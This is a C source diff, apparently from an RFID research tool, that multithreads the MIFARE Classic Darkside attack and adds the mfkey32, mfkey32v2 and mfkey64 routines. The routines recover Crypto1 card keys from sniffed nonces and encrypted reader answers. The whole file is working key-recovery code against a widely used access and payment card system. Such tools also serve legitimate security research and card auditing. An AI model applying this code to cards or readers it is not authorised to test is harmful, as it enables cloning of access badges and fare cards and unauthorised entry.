@@ -9,8 +9,14 @@
 //-----------------------------------------------------------------------------
 // MIFARE Darkside hack
 //-----------------------------------------------------------------------------
+#include <stdlib.h>
+#include <string.h>
 #include "mfkey.h"
 #include "crapto1.h"
+#include "thread_pool.h"
+
+// states mfkey32 rolls back at once
+#define ROLLBACK_BLOCK 256
 
 // MIFARE
 extern int compare_uint64(const void *a, const void *b);
@@ -42,9 +48,94 @@ uint32_t intersection(uint64_t *listA, uint64_t *listB) {
     return p3 - listA;
 }
 
+typedef struct {
+    uint32_t pfx;
+    uint32_t rr;
+    uint8_t *ks;
+    uint8_t (*par)[8];
+    uint32_t no_par;
+
+    uint32_t *halves[2];    // lfsr_prefix_ks() even and odd candidates
+    uint32_t evenCount;
+    struct Crypto1State **states;   // found by each odd candidate
+    uint32_t *stateCount;
+    bool failed;
+} PrefixPar;
+
+static void prefix_ks_task(void *args, uint32_t task, uint32_t worker) {
+    PrefixPar *pp = (PrefixPar *)args;
+    (void)worker;
+    pp->halves[task] = lfsr_prefix_ks(pp->ks, task);
+}
+
+static void common_prefix_task(void *args, uint32_t task, uint32_t worker) {
+    PrefixPar *pp = (PrefixPar *)args;
+    struct Crypto1State *sl, *end;
+    (void)worker;
+
+    sl = malloc(sizeof(*sl) * (pp->evenCount * 64 + 1));
+    if (sl == NULL) {
+        pp->failed = true;
+        return;
+    }
+    end = lfsr_common_prefix_odd(pp->pfx, pp->rr, pp->par, pp->no_par, pp->halves[1][task], pp->halves[0], sl);
+    pp->stateCount[task] = end - sl;
+    struct Crypto1State *tmp = realloc(sl, sizeof(*sl) * (pp->stateCount[task] + 1));
+    pp->states[task] = tmp ? tmp : sl;
+}
+
+// lfsr_common_prefix() on `threads` threads (0 = all cores), one task per odd
+// candidate. The lists are joined in candidate order, giving the same states
+// in the same order.
+static struct Crypto1State *common_prefix(uint32_t pfx, uint32_t rr, uint8_t ks[8], uint8_t par[8][8], uint32_t no_par,
+                                          uint32_t threads) {
+    struct Crypto1State *statelist = NULL;
+    uint32_t i, oddCount = 0, total = 0;
+    PrefixPar pp = {pfx, rr, ks, par, no_par, {NULL, NULL}, 0, NULL, NULL, false};
+
+    thread_pool_run(2, thread_pool_size(2, threads), prefix_ks_task, &pp);
+    if (pp.halves[0] == NULL || pp.halves[1] == NULL)
+        goto out;
+    while (pp.halves[0][pp.evenCount] + 1)
+        pp.evenCount++;
+    while (pp.halves[1][oddCount] + 1)
+        oddCount++;
+
+    pp.states = calloc(oddCount + 1, sizeof(*pp.states));
+    pp.stateCount = calloc(oddCount + 1, sizeof(*pp.stateCount));
+    if (pp.states == NULL || pp.stateCount == NULL)
+        goto out;
+    thread_pool_run(oddCount, thread_pool_size(oddCount, threads), common_prefix_task, &pp);
+    if (pp.failed)
+        goto out;
+
+    for (i = 0; i < oddCount; i++)
+        total += pp.stateCount[i];
+    statelist = malloc(sizeof(*statelist) * (total + 1));
+    if (statelist == NULL)
+        goto out;
+    for (i = 0, total = 0; i < oddCount; i++) {
+        memcpy(statelist + total, pp.states[i], sizeof(*statelist) * pp.stateCount[i]);
+        total += pp.stateCount[i];
+    }
+    statelist[total].odd = statelist[total].even = 0;
+
+out:
+    if (pp.states != NULL) {
+        for (i = 0; i < oddCount; i++)
+            free(pp.states[i]);
+    }
+    free(pp.states);
+    free(pp.stateCount);
+    free(pp.halves[0]);
+    free(pp.halves[1]);
+    return statelist;
+}
+
 // Darkside attack (hf mf mifare)
 // if successful it will return a list of keys, not just one.
-uint32_t nonce2key(uint32_t uid, uint32_t nt, uint32_t nr, uint32_t ar, uint64_t par_info, uint64_t ks_info, uint64_t **keys) {
+uint32_t nonce2key(uint32_t uid, uint32_t nt, uint32_t nr, uint32_t ar, uint64_t par_info, uint64_t ks_info,
+                   uint32_t threads, uint64_t **keys) {
     union {
         struct Crypto1State *states;
         uint64_t *keylist;
@@ -52,7 +143,6 @@ uint32_t nonce2key(uint32_t uid, uint32_t nt, uint32_t nr, uint32_t ar, uint64_t
 
     uint32_t i, pos;
     uint8_t ks3x[8], par[8][8];
-    uint64_t key_recovered;
 
     // Reset the last three significant bits of the reader nonce
     nr &= 0xFFFFFF1F;
@@ -71,20 +161,187 @@ uint32_t nonce2key(uint32_t uid, uint32_t nt, uint32_t nr, uint32_t ar, uint64_t
         par[7 - pos][7] = (bt >> 7) & 1;
     }
 
-    unionstate.states = lfsr_common_prefix(nr, ar, ks3x, par, (par_info == 0));
+    unionstate.states = common_prefix(nr, ar, ks3x, par, (par_info == 0), threads);
 
     if (!unionstate.states) {
         *keys = NULL;
         return 0;
     }
 
-    for (i = 0; unionstate.keylist[i]; i++) {
-        lfsr_rollback_word(unionstate.states + i, uid ^ nt, 0);
-        crypto1_get_lfsr(unionstate.states + i, &key_recovered);
-        unionstate.keylist[i] = key_recovered;
-    }
+    for (i = 0; unionstate.keylist[i]; i++);
+    // the keys overwrite their states
+    lfsr_rollback_words(unionstate.states, i, uid ^ nt, 0);
+    crypto1_get_lfsrs(unionstate.states, i, unionstate.keylist);
     unionstate.keylist[i] = -1;
 
     *keys = unionstate.keylist;
     return i;
 }
+
+// append the keys not in the list yet, returns false if out of memory
+static bool append_keys(uint64_t **list, uint32_t *size, const uint64_t *keys, uint32_t n) {
+    if (n == 0)
+        return true;
+    void *tmp = realloc(*list, sizeof(uint64_t) * (*size + n));
+    if (tmp == NULL)
+        return false;
+    *list = tmp;
+    for (uint32_t i = 0; i < n; i++) {
+        uint32_t j = 0;
+        while (j < *size && (*list)[j] != keys[i])
+            j++;
+        if (j == *size)
+            (*list)[(*size)++] = keys[i];
+    }
+    return true;
+}
+
+void darkside_solver_init(DarksideSolver *ds, uint32_t uid) {
+    ds->uid = uid;
+    ds->threads = 0;
+    ds->candidates = NULL;
+}
+
+void darkside_solver_free(DarksideSolver *ds) {
+    free(ds->candidates);
+    ds->candidates = NULL;
+}
+
+// Solve one more darkside nonce. Parity zero nonces (NXP tags) only give key
+// lists that are narrowed by intersecting them with the previous ones.
+// Returns the number of keys this nonce gives, *keys is to be freed by the caller.
+uint32_t darkside_solver_add(DarksideSolver *ds, const DarksideParam *dp, uint64_t **keys) {
+    uint64_t *keylist = NULL;
+    uint32_t keycount;
+
+    *keys = NULL;
+    keycount = nonce2key(ds->uid, dp->nt, dp->nr, dp->ar, dp->par_list, dp->ks_list, ds->threads, &keylist);
+    if (keycount == 0) {
+        free(keylist);
+        return 0;
+    }
+    if (dp->par_list != 0) {
+        *keys = keylist;
+        return keycount;
+    }
+
+    // only parity zero attack
+    qsort(keylist, keycount, sizeof(*keylist), compare_uint64);
+    keycount = intersection(ds->candidates, keylist);
+    if (keycount == 0) {
+        free(ds->candidates);
+        ds->candidates = keylist;
+        return 0;
+    }
+    free(keylist);
+    *keys = malloc(sizeof(uint64_t) * keycount);
+    if (*keys == NULL)
+        return 0;
+    memcpy(*keys, ds->candidates, sizeof(uint64_t) * keycount);
+    return keycount;
+}
+
+// Darkside attack over all collected nonces, on `threads` threads (0 = all cores).
+// Returns every key found, keyCount set to 0 if none.
+uint64_t *darkside_recover(uint32_t uid, const DarksideParam *dps, uint32_t count, uint32_t threads,
+                           uint32_t *keyCount) {
+    DarksideSolver ds;
+    uint64_t *keylist, *found = NULL;
+    uint32_t i, keycount;
+
+    *keyCount = 0;
+    darkside_solver_init(&ds, uid);
+    ds.threads = threads;
+    for (i = 0; i < count; i++) {
+        keycount = darkside_solver_add(&ds, &dps[i], &keylist);
+        bool ok = append_keys(&found, keyCount, keylist, keycount);
+        free(keylist);
+        if (!ok)
+            break;
+    }
+    darkside_solver_free(&ds);
+    return found;
+}
+
+// mfkey32, two reader answers to the same tag nonce
+bool mfkey32(uint32_t uid, uint32_t nt, uint32_t nr0_enc, uint32_t ar0_enc,
+             uint32_t nr1_enc, uint32_t ar1_enc, uint64_t *key) {
+    return mfkey32v2(uid, nt, nr0_enc, ar0_enc, nt, nr1_enc, ar1_enc, key);
+}
+
+// mfkey32 version 2, two reader answers to different tag nonces
+bool mfkey32v2(uint32_t uid, uint32_t nt0, uint32_t nr0_enc, uint32_t ar0_enc,
+               uint32_t nt1, uint32_t nr1_enc, uint32_t ar1_enc, uint64_t *key) {
+    return mfkey32v2_ctx(NULL, uid, nt0, nr0_enc, ar0_enc, nt1, nr1_enc, ar1_enc, key);
+}
+
+// same, recovering in the tables of ctx if not NULL
+bool mfkey32v2_ctx(struct Crypto1Recovery *ctx, uint32_t uid, uint32_t nt0, uint32_t nr0_enc, uint32_t ar0_enc,
+                   uint32_t nt1, uint32_t nr1_enc, uint32_t ar1_enc, uint64_t *key) {
+    struct Crypto1State *s, *t;
+    uint32_t i, n = 0;
+    uint32_t p64 = prng_successor(nt0, 64);
+    uint32_t p64b = prng_successor(nt1, 64);
+    bool found = false;
+
+    s = ctx ? lfsr_recovery32_ctx(ctx, ar0_enc ^ p64, 0) : lfsr_recovery32(ar0_enc ^ p64, 0);
+    if (s == NULL)
+        return false;
+
+    // rolled back a block at a time, most of the time the key is found before the end
+    for (t = s; (t->odd | t->even) && !found; t += n) {
+        for (n = 0; n < ROLLBACK_BLOCK && (t[n].odd | t[n].even); n++);
+        lfsr_rollback_words(t, n, 0, 0);
+        lfsr_rollback_words(t, n, nr0_enc, 1);
+        lfsr_rollback_words(t, n, uid ^ nt0, 0);
+
+        for (i = 0; i < n; i++) {
+            struct Crypto1State u = t[i];
+            crypto1_word(&u, uid ^ nt1, 0);
+            crypto1_word(&u, nr1_enc, 1);
+            if (ar1_enc == (crypto1_word(&u, 0, 0) ^ p64b)) {
+                crypto1_get_lfsr(&t[i], key);
+                found = true;
+                break;
+            }
+        }
+    }
+    if (!ctx)
+        free(s);
+    return found;
+}
+
+// true if the reader answer {nr} {ar} to nt was made with key
+bool mfkey32_check(uint64_t key, uint32_t uid, uint32_t nt, uint32_t nr_enc, uint32_t ar_enc) {
+    struct Crypto1State s;
+
+    crypto1_init(&s, key);
+    crypto1_word(&s, uid ^ nt, 0);
+    crypto1_word(&s, nr_enc, 1);
+    return ar_enc == (crypto1_word(&s, 0, 0) ^ prng_successor(nt, 64));
+}
+
+// mfkey64, one complete authentication, the key is checked against {ar} and {at}
+bool mfkey64(uint32_t uid, uint32_t nt, uint32_t nr_enc, uint32_t ar_enc, uint32_t at_enc, uint64_t *key) {
+    struct Crypto1State *revstate, s;
+    uint32_t p64 = prng_successor(nt, 64);
+
+    revstate = lfsr_recovery64(ar_enc ^ p64, at_enc ^ prng_successor(p64, 32));
+    if (!revstate)
+        return false;
+    lfsr_rollback_word(revstate, 0, 0);
+    lfsr_rollback_word(revstate, 0, 0);
+    lfsr_rollback_word(revstate, nr_enc, 1);
+    lfsr_rollback_word(revstate, uid ^ nt, 0);
+    crypto1_get_lfsr(revstate, key);
+    crypto1_destroy(revstate);
+
+    // no state found leaves the empty one, a wrong key
+    if (!mfkey32_check(*key, uid, nt, nr_enc, ar_enc))
+        return false;
+    crypto1_init(&s, *key);
+    crypto1_word(&s, uid ^ nt, 0);
+    crypto1_word(&s, nr_enc, 1);
+    crypto1_word(&s, 0, 0);
+    return at_enc == (crypto1_word(&s, 0, 0) ^ prng_successor(p64, 32));
+}